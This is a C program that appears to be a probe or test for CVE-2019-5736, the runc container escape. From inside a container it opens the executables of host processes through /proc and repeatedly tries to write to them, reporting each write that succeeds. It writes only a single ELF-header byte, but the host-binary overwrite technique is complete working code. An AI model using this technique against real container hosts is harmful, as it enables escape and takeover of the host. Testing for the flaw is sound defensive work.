/*
 * CVE-2019-5736: opens the program of each process, and tries to write to it, until the file named by its argument exists. Prints
 * how many programs from outside it caught, and each that it could open for writing.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int is_inside(const struct stat *program) {
	struct stat own;
	return stat("/bin/busybox", &own) == 0 && own.st_dev == program->st_dev;
}

int main(int argc, char **argv) {
	enum { MOST = 64 };
	int held[MOST], count = 0;
	long looks = 0, caught = 0;
	const char *stop = argc > 1 ? argv[1] : "/stop", *control = argc > 2 ? argv[2] : NULL;
	printf("ready\n");
	fflush(stdout);
	while (access(stop, F_OK) != 0) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
			char path[300];
			struct stat status;
			if (atoi(entry->d_name) <= 1 || atoi(entry->d_name) == getpid()) continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int program = open(path, O_RDONLY | O_CLOEXEC);
			looks++;
			if (program < 0) continue;
			if (fstat(program, &status) != 0 || is_inside(&status)) {
				close(program);
				continue;
			}
			caught++;
			if (count == MOST) close(held[--count]);
			held[count++] = program;
		}
		if (proc != NULL) closedir(proc);
		/* A running program cannot be written to (ETXTBSY), so again and again. */
		for (int i = 0; i < count; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int file = open(path, O_WRONLY | O_CLOEXEC);
			/* The byte that each program begins with. */
			if (file >= 0 && write(file, "\177", 1) == 1) {
				char name[300] = "";
				if (readlink(path, name, sizeof name - 1) < 0) name[0] = '?';
				printf("WROTE %s\n", name);
			}
			if (file >= 0) close(file);
		}
	}
	if (control != NULL) {
		int file = open(control, O_WRONLY);
		printf("control %s\n", file >= 0 && write(file, "\177", 1) == 1 ? "written" : "refused");
	}
	printf("%ld looks, %ld caught\n", looks, caught);
	return 0;
}
